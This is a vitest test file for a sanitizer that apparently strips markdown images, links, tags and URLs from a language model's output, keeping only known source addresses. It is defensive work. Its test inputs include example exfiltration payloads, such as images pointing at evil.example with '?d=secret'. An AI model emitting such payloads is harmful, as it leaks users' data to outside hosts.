import { describe, expect, it } from 'vitest'
import { growthOf, linearGrowth } from '#test/support/runner/growth.ts'
import { inertText } from '#workers/llm/messages/inert-text.ts'

const known = new Set(['https://one.example/'])

describe('the words of a model', () => {
  it.each([
    ['an image', 'See ![a chart](https://evil.example/x.png?d=secret).', 'See [a chart].'],
    ['an image without words', 'Built in 1852. ![](https://evil.example/x)', 'Built in 1852. '],
    ['an image with a title', '![a](https://evil.example/x "title")', '[a] (evil.example "title")'],
    ['a link', '[the page](https://evil.example/)', '[the page]'],
    ['an image in a link', '[![a](https://evil.example/x)](https://evil.example/)', '[[a]]'],
    ['a broken image', '![a [b]](https://evil.example/x)', '[a [b]]'],
    ['a reference', '![a][b] [b]: https://evil.example/x', '[a] [b] [b] : evil.example'],
    ['a tag', 'x <img src="https://evil.example/x"> y', 'x ‹img src="evil.example"> y'],
    ['an address in brackets', '<https://evil.example/x>', '‹evil.example>'],
    ['an address', 'as https://evil.example/x?d=secret shows', 'as evil.example shows'],
    ['an address without a scheme', 'as www.evil.example/x shows', 'as evil.example shows'],
    ['an address with a user', 'as https://one.example@evil.example/x', 'as one.example'],
    ['the address of a source', 'as https://one.example/ shows', 'as https://one.example/ shows'],
    ['the address of a source at the end', 'It is https://one.example/.', 'It is https://one.example/.'],
    ['numbers and signs', 'a < b, 5 [1], f(x) = x[0], see §3:2', 'a < b, 5 [1], f(x) = x[0], see §3:2'],
  ])('are text without %s', (_, written, shown) => {
    expect(inertText(written, known)).toBe(shown)
  })

  it.each(['![', '[](', '![a](', 'https://', '<a', '](', 'a://b.'])('take linear time: %s', (piece) => {
    expect(growthOf((size) => piece.repeat(size), inertText)).toBeLessThan(linearGrowth)
  })
})
